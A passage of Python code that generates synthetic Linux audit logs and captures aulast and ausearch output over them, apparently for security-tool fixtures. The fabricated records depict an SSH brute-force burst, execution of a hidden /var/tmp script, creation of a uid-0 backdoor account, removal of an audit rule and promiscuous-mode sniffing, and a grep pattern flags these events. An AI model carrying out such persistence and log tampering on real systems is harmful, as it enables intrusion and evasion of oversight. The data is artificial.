            ev(t + r.randint(30, 600), [("USER_CMD", f"pid={npid()} uid={uid} auid={uid} ses={s_} msg='cwd=\"/home/{u}\" cmd={hx(cmd)} exe=\"/usr/bin/sudo\" terminal=pts/0 res=success'")])
        if r.random() < 0.75:
            te = t + r.randint(200, 7000)
            ev(te, [("USER_END", f"pid={p} uid=0 auid={uid} ses={s_} msg='op=PAM:session_close grantors=pam_unix {pam}")])
            ev(te + .01, [("CRED_DISP", f"pid={p} uid=0 auid={uid} ses={s_} msg='op=PAM:setcred grantors=pam_unix {pam}")])
    for k in range(9):  # su attempts by the lab account
        t = t0 + span * .3 + k * r.uniform(5, 40)
        ev(t, [("USER_AUTH", f"pid={npid()} uid=1206 auid=1206 ses=305 msg='op=PAM:authentication grantors=? acct=\"root\" exe=\"/usr/bin/su\" hostname=? addr=? terminal=/dev/pts/1 res=failed'")])
    for k in range(24):  # a burst from one address against sshd
        t = t0 + span * .7 + k * r.uniform(1, 4)
        acct, p = r.choice(["root", "admin", "(invalid user)"]), npid()
        ev(t, [("USER_AUTH", f"pid={p} uid=0 auid={UNSET} ses={UNSET} msg='op=PAM:authentication grantors=? acct=\"{acct}\" exe=\"/usr/sbin/sshd\" hostname=192.0.2.150 addr=192.0.2.150 terminal=ssh res=failed'")])
        if acct != "admin":
            ev(t + .2, [("USER_LOGIN", f"pid={p} uid=0 auid={UNSET} ses={UNSET} msg='op=login acct=\"{acct}\" exe=\"/usr/sbin/sshd\" hostname=? addr=192.0.2.150 terminal=sshd res=failed'")])
    for _ in range(50):
        t = t0 + r.randint(300, span)
        u, uid = r.choice(list(STAFF.items()))
        path, key, ok = r.choice([("/srv/ledger/2025-11.csv", "ledger", True), ("/etc/pressd/secret.key", "presskey", False),
                                  ("/etc/passwd", "identity", True), ("/etc/cron.d/backup", "cron", True),
                                  ("/srv/ledger/members.db", "ledger", True)])
        ok = ok and r.random() > 0.05
        comm = r.choice(["cat", "nano", "libreoffice", "rsync", "python3"])
        p = npid()
        ev(t, [("SYSCALL", f"arch=c000003e syscall={r.choice([257, 2, 87])} success={'yes' if ok else 'no'} exit={r.randint(3, 9) if ok else -13} a0=ffffff9c a1=55e3{r.randrange(16**8):08x} a2=0 a3=0 items=1 ppid={p - 3} pid={p} auid={uid} uid={uid} gid={uid} euid={uid} suid={uid} fsuid={uid} egid={uid} sgid={uid} fsgid={uid} tty=pts0 ses={r.randint(301, 326)} comm=\"{comm}\" exe=\"/usr/bin/{comm}\" subj=unconfined key=\"{key}\""),
               ("CWD", f"cwd=\"/home/{u}\""),
               ("PATH", f"item=0 name=\"{path}\" inode={r.randint(100000, 800000)} dev=fe:01 mode=0100640 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0 cap_frootid=0"),
               ("PROCTITLE", f"proctitle={hx(comm + chr(0) + path)}")])
    t = t0 + span * .55
    p = npid()
    ev(t, [("SYSCALL", f"arch=c000003e syscall=59 success=yes exit=0 a0=5601 a1=5602 a2=5603 a3=0 items=2 ppid={p - 1} pid={p} auid=1202 uid=1202 gid=1202 euid=1202 suid=1202 fsuid=1202 egid=1202 sgid=1202 fsgid=1202 tty=pts2 ses=310 comm=\"bash\" exe=\"/usr/bin/bash\" subj=unconfined key=\"tmpexec\""),
           ("EXECVE", "argc=2 a0=\"bash\" a1=\"/var/tmp/.u/upd.sh\""),
           ("CWD", "cwd=\"/var/tmp/.u\""),
           ("PATH", "item=0 name=\"/var/tmp/.u/upd.sh\" inode=77120 dev=fe:01 mode=0100755 ouid=1202 ogid=1202 rdev=00:00 nametype=NORMAL cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0 cap_frootid=0")])
    ev(t + 40, [("ADD_USER", f"pid={npid()} uid=0 auid=1202 ses=310 msg='op=adding user id=0 exe=\"/usr/sbin/useradd\" hostname=office1 addr=? terminal=pts/2 res=success'")])
    ev(t + 52, [("USER_CHAUTHTOK", f"pid={npid()} uid=0 auid=1202 ses=310 msg='op=PAM:chauthtok grantors=pam_unix acct=\"sysupd\" exe=\"/usr/bin/passwd\" hostname=office1 addr=? terminal=pts/2 res=success'")])
    ev(t + 70, [("CONFIG_CHANGE", "auid=1202 ses=310 op=remove_rule key=\"identity\" list=4 res=1")])
    ev(t + 95, [("ANOM_PROMISCUOUS", "dev=eth0 prom=256 old_prom=0 auid=1202 uid=0 gid=0 ses=310")])
    for _ in range(3):
        ev(t0 + r.randint(500, span), [("AVC", f"apparmor=\"DENIED\" operation=\"open\" profile=\"pressd\" name=\"/srv/press/members/list.csv\" pid={npid()} comm=\"pressd\" requested_mask=\"w\" denied_mask=\"w\" fsuid=0 ouid=0")])
    ev(t0 + span - 600, [("ANOM_ABEND", f"auid={UNSET} uid=0 gid=0 ses={UNSET} subj=unconfined pid={npid()} comm=\"cellard\" exe=\"/usr/sbin/cellard\" sig=11 res=1")])
    ev(t0 + span - 590, [("SERVICE_STOP", f"pid=1 uid=0 auid={UNSET} ses={UNSET} subj=unconfined msg='unit=cellard comm=\"systemd\" exe=\"/usr/lib/systemd/systemd\" hostname=? addr=? terminal=? res=failed'")])
    recs.sort(key=lambda x: x[0])
    return "".join(ln + "\n" for _, ln in recs)


def cap_audit(tmp: Path) -> None:
    d = tmp / "audit"
    d.mkdir(parents=True, exist_ok=True)
    t0 = 1764720000.0  # 2025-12-03 00:00 UTC
    (d / "audit.log").write_text(audit_log(random.Random(1975), t0, 20))
    (d / "audit.log.1").write_text(audit_log(random.Random(1976), t0 - 86400, 20))
    a = lambda cmd: run(cmd, cwd=d, env={"TZ": "UTC"})  # noqa: E731
    add("aulast-office1-bad", "aulast --bad -f /var/log/audit/audit.log ; echo EXIT=$?",
        a("aulast --bad -f audit.log; echo EXIT=$?"), n_aulast)
    add("aulast-office1-both", "cat audit.log.1 audit.log | aulast --stdin | head -n 80",
        a("cat audit.log.1 audit.log | aulast --stdin | head -n 80"), n_aulast)
    add("audit-raw-grep-keys", "grep -E 'key=\"(presskey|tmpexec|identity)\"|res=failed|ADD_USER|CHAUTHTOK|PROMISC' -A3 "
        "/var/log/audit/audit.log | head -n 200",
        a("grep -E 'key=\"(presskey|tmpexec|identity)\"|res=failed|ADD_USER|CHAUTHTOK|PROMISC' -A3 audit.log "
          "| head -n 200"), n_audit_raw)
    add("audit-raw-tail-old", "tail -n 260 /var/log/audit/audit.log.1", a("tail -n 260 audit.log.1"), n_audit_raw)
    add("ausearch-csv-office1-head", "ausearch --format csv -if /var/log/audit/audit.log | head -n 260",
        a("ausearch --format csv -if audit.log 2>&1 | head -n 260"), n_ausearch_csv)
    add("ausearch-csv-old-unsuccessful", "ausearch -if audit.log.1 --format csv | grep -v ',success,' | head -n 200 ; "
        "echo EXIT=$?",
        a("ausearch -if audit.log.1 --format csv 2>&1 | grep -v ',success,' | head -n 200; echo EXIT=$?"),
        n_ausearch_csv)
    add("ausearch-text-events", "ausearch -m USER_AUTH,ADD_USER,USER_CHAUTHTOK,CONFIG_CHANGE,ANOM_PROMISCUOUS,"
        "ANOM_ABEND,SYSCALL --format text -if audit.log ; echo EXIT=$?",
        a("ausearch -m USER_AUTH,ADD_USER,USER_CHAUTHTOK,CONFIG_CHANGE,ANOM_PROMISCUOUS,ANOM_ABEND,SYSCALL "
          "--format text -if audit.log 2>&1; echo EXIT=$?"), n_ausearch_text)


STEPS = [cap_clamav, cap_yara, cap_apparmor, cap_tripwire, cap_logwatch, cap_audit]
